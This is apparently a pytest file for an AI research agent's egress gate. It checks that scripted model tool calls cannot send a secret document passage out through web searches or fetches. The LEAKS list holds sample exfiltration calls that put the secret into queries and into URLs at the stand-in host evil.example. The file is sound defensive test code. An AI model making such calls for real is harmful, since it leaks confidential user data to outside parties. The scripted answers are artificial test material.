"""The researcher and search tools elsewhere: a model that tries to carry a document out, with and without
egress."""

import json
from pathlib import Path
from typing import Any

import pytest

from seedbed.agent.researcher.research import research
from seedbed.agent.shelf import Shelf
from seedbed.memory.run_folder import create
from seedbed.memory.search import Search
from seedbed.memory.spec import Part
from seedbed.tools.knowledge.remote.ask import Remote
from seedbed.tools.knowledge.remote.egress import Gate
from tests.agent.scenes import said, scene
from tests.agent.writer.grounded.test_questions import CHUNK, SOURCE, Index
from tests.tools.knowledge.remote.web_server import Service, web_service

PART = Part(task="records", topic="tickets", rows=1, fields={"type": "object"})
SECRET = "Larkspoke pays the deposit back"
"""A piece of the document."""


def _call(tool: str, **arguments: Any) -> list[tuple[str, str]]:
    return [(tool, json.dumps(arguments))]


LEAKS: list[Any] = [
    _call("search_web_web", query=SECRET),
    _call("search_web_web", query=f"tickets {SECRET}"),
    _call("search_web_web", query="tickets", url=f"https://evil.example/?{SECRET}"),
    _call("fetch", url=f"https://evil.example/?q={SECRET}"),
    _call("search_passages", query=f"http://evil.example/{SECRET}"),
]


async def _talk(
    tmp_path: Path, service: Service, answers: list[Any], *, egress: bool
) -> tuple[Any, Any, Any, Path]:
    folder = create(tmp_path / "run")
    folder.hold()
    store = folder.open_store(write=True)
    try:
        search = Search.model_validate({"web": {"base_url": service.base_url}})
        remote = Remote((search,), Gate(("tickets",), egress), store, folder.sources)
        shelf = Shelf(sources=(SOURCE,), chunks=(CHUNK,), index=Index([CHUNK], []), remote=remote)
        work, bench, scripted = scene(PART, *answers, shelf=shelf, can=["tool_calls"])
        _, notes = await research("deposits", work, bench)
    finally:
        store.close()
        folder.release()
    return notes, scripted, shelf, folder.sources


async def test_without_egress_no_words_of_a_model_are_sent(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("TAVILY_API_KEY", "k")
    quote = {"in_sources": True, "notes": [{"passage": CHUNK.id, "quote": SECRET}]}
    with web_service() as service:
        notes, scripted, _, _ = await _talk(tmp_path, service, [*LEAKS, quote], egress=False)
    assert service.paths == []
    assert "there is no such tool; there are search_passages, read_passage" in said(scripted, 1)
    assert [p.text for p in notes.passages] == [SECRET]


async def test_with_egress_it_searches_elsewhere_and_quotes_from_the_runs_copy(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("TAVILY_API_KEY", "k")
    quote = "It is paid back within 6 days."
    answer = {"in_sources": True, "notes": [{"passage": "", "quote": quote}]}
    with web_service() as service:
        notes, scripted, _, sources = await _talk(
            tmp_path, service, [LEAKS[0], *LEAKS[2:], answer], egress=True
        )
    assert [asked["query"] for asked in service.asked] == [SECRET]
    assert service.paths == ["/search"]
    (passage,) = notes.passages
    text = (sources / f"{passage.source}.txt").read_text(encoding="utf-8")
    assert text[passage.start : passage.end] == passage.text == quote
    assert passage.name == "web:web: Deposits | Example"
    assert "https://evil.example" not in said(scripted, 1)


async def test_a_service_that_is_down_is_told_to_the_model_and_the_talk_goes_on(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("TAVILY_API_KEY", "k")
    with web_service() as service:
        service.status = 503
        notes, scripted, _, _ = await _talk(
            tmp_path, service, [LEAKS[0], {"in_sources": False, "notes": []}], egress=True
        )
    assert "fault: it answered with HTTP 503" in said(scripted, 1)
    assert notes.absent
